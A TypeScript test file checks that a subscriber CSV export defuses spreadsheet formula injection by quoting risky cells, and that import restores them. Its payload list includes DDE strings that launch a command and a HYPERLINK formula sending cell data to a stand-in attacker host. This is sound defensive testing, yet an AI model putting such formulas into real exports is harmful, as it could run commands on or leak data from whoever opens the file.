import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { parseSubscribersCsv, subscribersToCsv } from '../../src/deliver/index.ts';
import type { Subscriber } from '../../src/types.ts';

// The classic payloads: a spreadsheet that opens the export runs a cell starting with = + - @
// (or a tab or CR before one). OWASP: prefix such a cell with a single quote.
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=HYPERLINK("http://evil.example/?"&A1)',
];

function subscriber(id: number, name: string, email = `p${id}@example.org`): Subscriber {
  return {
    id,
    email,
    name,
    status: 'active',
    topics: [],
    createdAt: '2026-11-24T12:00:00.000Z',
    bounceCount: 0,
  };
}

describe('subscriber CSV export: formula injection', () => {
  const list = [
    ...PAYLOADS.map((payload, k) => subscriber(k + 1, payload)),
    subscriber(7, 'Ann Lee', '-cmd@example.org'),
    subscriber(8, 'Bob Ray'),
  ];
  const csv = subscribersToCsv(list);
  const cells = (parse(csv, { columns: true }) as Record<string, string>[]).map((row) => row);

  it('every one of the 6 payloads is written as text: a single quote before it', () => {
    const names = cells.slice(0, 6).map((row) => row.name);
    expect(names).toEqual(PAYLOADS.map((payload) => `'${payload}`));
    for (const name of names) expect(name).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('an address starting with - is neutralised too; ordinary cells are left alone', () => {
    expect(cells[6]?.email).toBe("'-cmd@example.org");
    expect(cells[7]).toMatchObject({ email: 'p8@example.org', name: 'Bob Ray', status: 'active' });
  });

  it('import takes the quote off again: the list round-trips', () => {
    const { rows, diagnostics } = parseSubscribersCsv(csv, 'export.csv', []);
    expect(diagnostics).toEqual([]);
    expect(rows.find((row) => row.name === 'Ann Lee')?.email).toBe('-cmd@example.org');
    // Names lose their tab and CR (names are one line of text); the rest is the payload as stored.
    expect(rows.slice(0, 4).map((row) => row.name)).toEqual(PAYLOADS.slice(0, 4));
  });
});
